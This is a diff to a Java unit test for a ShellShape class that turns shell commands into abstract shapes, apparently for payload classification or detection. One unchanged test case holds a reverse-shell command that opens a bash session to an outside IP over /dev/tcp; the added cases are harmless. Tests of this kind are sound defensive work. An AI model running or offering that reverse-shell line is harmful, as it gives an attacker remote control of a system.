@@ -22,10 +22,19 @@ class ShellShapeTest {
         "echo \"$(id)\"~echo $(id)",
         "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1~bash -i >& <socket> 0 >& <number>",
         "A=1 cat x~A=<number> cat <word>",
+        ">/tmp/x cat y~> <path> cat <word>",
+        "cat $x ${y:-z}~cat <$x> <${y:-z}>",
+        "python3 /app/x.py /tmp/y~python3 /app/x.py <path>",
+        "perl -ne 'print 1' /tmp/y~perl -ne {print 1} <path>",
         "sh -c 'cat /x; id'~sh -c {cat <path> ; id}"
       })
   void tellsCommandsOperatorsAndTypes(String payload, String shape) {
     assertThat(ShellShape.of(payload)).isEqualTo(shape);
+  }
+
+  @Test
+  void aCommandThatLooksLikeAShapeIsQuoted() {
+    assertThat(ShellShape.of("\"/app/a <word>\" c")).isEqualTo("'/app/a <word>' <word>");
   }
 
   @Test
